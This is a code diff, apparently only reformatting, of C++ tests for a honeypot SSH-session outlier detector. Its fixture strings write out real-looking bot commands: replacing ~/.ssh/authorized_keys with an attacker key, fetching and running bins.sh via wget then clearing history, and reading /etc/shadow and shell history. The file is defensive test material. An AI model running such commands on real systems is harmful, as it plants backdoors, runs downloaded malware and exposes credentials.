@@ -24,12 +24,15 @@ const cb::Table& outliers(const cb::Findings& f) {
 
 const std::vector<std::string> kBotScripts[] = {
     {"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "w", "crontab -l", "which ls"},
-    {"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QXZT", "cd /dev/shm; cat .s || cp /bin/echo .s"},
-    {"cd ~; chattr -ia .ssh; lockr -ia .ssh", "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nza mdrfckr\">>.ssh/authorized_keys"},
+    {"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QXZT",
+     "cd /dev/shm; cat .s || cp /bin/echo .s"},
+    {"cd ~; chattr -ia .ssh; lockr -ia .ssh",
+     "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nza mdrfckr\">>.ssh/authorized_keys"},
     {"echo -e \"\\x6F\\x6B\"", "uname -s -v -n -r -m"},
-    {"/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'", "ps -ef | grep '[Mm]iner'"},
-    {"cd /tmp || cd /var/run || cd /mnt", "wget http://{ip}/bins.sh", "chmod 777 bins.sh", "sh bins.sh", "rm -rf bins.sh",
-     "history -c"},
+    {"/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'",
+     "ps -ef | grep '[Mm]iner'"},
+    {"cd /tmp || cd /var/run || cd /mnt", "wget http://{ip}/bins.sh", "chmod 777 bins.sh", "sh bins.sh",
+     "rm -rf bins.sh", "history -c"},
 };
 
 std::string fill(std::string c, Rng& r) {
@@ -39,9 +42,13 @@ std::string fill(std::string c, Rng& r) {
 }
 
 std::string client(Rng& r) {
-    static const std::pair<const char*, int> common[] = {
-        {"SSH-2.0-Go", 30}, {"SSH-2.0-libssh_0.9.6", 20}, {"SSH-2.0-OpenSSH_7.4", 15}, {"SSH-2.0-paramiko_2.11.0", 10},
-        {"SSH-2.0-libssh2_1.10.0", 10}, {"SSH-2.0-PuTTY_Release_0.78", 5}, {"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3", 5}};
+    static const std::pair<const char*, int> common[] = {{"SSH-2.0-Go", 30},
+                                                         {"SSH-2.0-libssh_0.9.6", 20},
+                                                         {"SSH-2.0-OpenSSH_7.4", 15},
+                                                         {"SSH-2.0-paramiko_2.11.0", 10},
+                                                         {"SSH-2.0-libssh2_1.10.0", 10},
+                                                         {"SSH-2.0-PuTTY_Release_0.78", 5},
+                                                         {"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3", 5}};
     std::size_t x = r.below(100);
     for (const auto& [v, w] : common) {
         if (x < static_cast<std::size_t>(w)) return v;
@@ -87,13 +94,36 @@ std::vector<Spec> normal_sessions(std::size_t n, Rng& r) {
 
 // 20 sessions abnormal in one to three ways, none extreme in everything.
 std::vector<Spec> injected(Rng& r) {
-    static const char* hands[] = {"vim /etc/hosts", "find / -name \"*.conf\" -size +10k", "cat ~/.bash_history",
-                                  "netstat -tulpn", "ls -la /home", "cat /etc/shadow", "lsof -i", "df -h",
-                                  "mount", "iptables -L -n", "systemctl list-units", "journalctl -n 50",
-                                  "cat /var/log/auth.log | tail", "dpkg -l | grep ssh", "who -a", "last -n 20",
-                                  "ip route", "ss -plnt", "cat /etc/crontab", "ls /etc/cron.d", "python3 -V",
-                                  "gcc --version", "docker ps", "kubectl get pods", "env", "cat ~/.ssh/known_hosts",
-                                  "getent passwd", "sudo -l", "ls -la /root", "cat /etc/os-release"};
+    static const char* hands[] = {"vim /etc/hosts",
+                                  "find / -name \"*.conf\" -size +10k",
+                                  "cat ~/.bash_history",
+                                  "netstat -tulpn",
+                                  "ls -la /home",
+                                  "cat /etc/shadow",
+                                  "lsof -i",
+                                  "df -h",
+                                  "mount",
+                                  "iptables -L -n",
+                                  "systemctl list-units",
+                                  "journalctl -n 50",
+                                  "cat /var/log/auth.log | tail",
+                                  "dpkg -l | grep ssh",
+                                  "who -a",
+                                  "last -n 20",
+                                  "ip route",
+                                  "ss -plnt",
+                                  "cat /etc/crontab",
+                                  "ls /etc/cron.d",
+                                  "python3 -V",
+                                  "gcc --version",
+                                  "docker ps",
+                                  "kubectl get pods",
+                                  "env",
+                                  "cat ~/.ssh/known_hosts",
+                                  "getent passwd",
+                                  "sudo -l",
+                                  "ls -la /root",
+                                  "cat /etc/os-release"};
     std::vector<Spec> out;
     for (int i = 0; i < 20; ++i) {
         Spec s;
@@ -105,7 +135,8 @@ std::vector<Spec> injected(Rng& r) {
         switch (i / 4) {
             case 0:  // a human at the keyboard: many unusual commands, long, lots of output
                 s.logins = {{"root", "toor", true}};
-                for (std::size_t k = 0, nk = 25 + r.below(16); k < nk; ++k) s.commands.push_back(hands[r.below(std::size(hands))]);
+                for (std::size_t k = 0, nk = 25 + r.below(16); k < nk; ++k)
+                    s.commands.push_back(hands[r.below(std::size(hands))]);
                 s.duration_s = 600 + r.below(1200);
                 s.tty_bytes = static_cast<std::int64_t>(20000 + r.below(40000));
                 break;
@@ -119,7 +150,8 @@ std::vector<Spec> injected(Rng& r) {
                 for (const auto& c : kBotScripts[5]) s.commands.push_back(fill(c, r));
                 for (std::size_t k = 0, nk = 6 + r.below(7); k < nk; ++k)
                     s.downloads.push_back({"http://" + r.ip() + "/b" + std::to_string(k), r.hex(64)});
-                for (std::size_t k = 0, nk = 1 + r.below(2); k < nk; ++k) s.uploads.push_back({"/tmp/p" + std::to_string(k), r.hex(64)});
+                for (std::size_t k = 0, nk = 1 + r.below(2); k < nk; ++k)
+                    s.uploads.push_back({"/tmp/p" + std::to_string(k), r.hex(64)});
                 s.tty_bytes = static_cast<std::int64_t>(200 + r.below(4800));
                 s.duration_s = 2 + 58 * r.unit();
                 break;
@@ -165,7 +197,10 @@ Eval evaluate(const cb::Table& t, const std::set<std::string>& truth) {
         // A row is a behaviour: its injected sessions are among its examples.
         for (const std::string& id : lines(std::get<std::string>(t.rows[i][col(t, "example_sessions")]))) {
             if (!truth.count(id)) continue;
-            if (std::getenv("CB_VERBOSE")) std::cout << "  rank " << i + 1 << " " << id << " score " << std::get<double>(t.rows[i][col(t, "score")]) << " " << std::get<std::string>(t.rows[i][col(t, "top_features")]) << "\n";
+            if (std::getenv("CB_VERBOSE"))
+                std::cout << "  rank " << i + 1 << " " << id << " score "
+                          << std::get<double>(t.rows[i][col(t, "score")]) << " "
+                          << std::get<std::string>(t.rows[i][col(t, "top_features")]) << "\n";
             ++hits;
             // Two injected sessions of one behaviour share a row: precision is at most 1.
             e.average_precision += static_cast<double>(hits) / static_cast<double>(std::max(i + 1, hits));
@@ -302,7 +337,8 @@ TEST(Outliers, OneAddressIsOneRowBelowPayloadsAndInteractiveWork) {
     std::map<std::string, std::size_t> rank_of;
     for (std::size_t i = 0; i < t.rows.size(); ++i) {
         if (std::get<std::string>(t.rows[i][col(t, "src_ip")]) == "203.0.113.7") brute_rows.push_back(i);
-        for (const auto& id : lines(std::get<std::string>(t.rows[i][col(t, "example_sessions")]))) rank_of.emplace(id, i);
+        for (const auto& id : lines(std::get<std::string>(t.rows[i][col(t, "example_sessions")])))
+            rank_of.emplace(id, i);
     }
     if (std::getenv("CB_VERBOSE"))
         for (auto i : brute_rows) std::cout << "brute force at rank " << i + 1 << "\n";
@@ -363,10 +399,12 @@ TEST(Outliers, SameBytesForAnyOrderAndAnySplit) {
     const cb::Findings found = run_split(cb::analyses::make_outliers, few, {}, 1);
     const cb::Table& t = outliers(found);
     std::set<std::string> want;
-    for (const auto& s : c.sessions) want.insert(std::string(s.sensor) + "/" + std::string(s.session) + "/" + std::string(s.src_ip));
+    for (const auto& s : c.sessions)
+        want.insert(std::string(s.sensor) + "/" + std::string(s.session) + "/" + std::string(s.src_ip));
     for (const auto& row : t.rows) {
-        const std::string id = std::get<std::string>(row[col(t, "sensor")]) + "/" + std::get<std::string>(row[col(t, "session")]) +
-                               "/" + std::get<std::string>(row[col(t, "src_ip")]);
+        const std::string id = std::get<std::string>(row[col(t, "sensor")]) + "/" +
+                               std::get<std::string>(row[col(t, "session")]) + "/" +
+                               std::get<std::string>(row[col(t, "src_ip")]);
         EXPECT_TRUE(want.count(id)) << id;
     }
 }
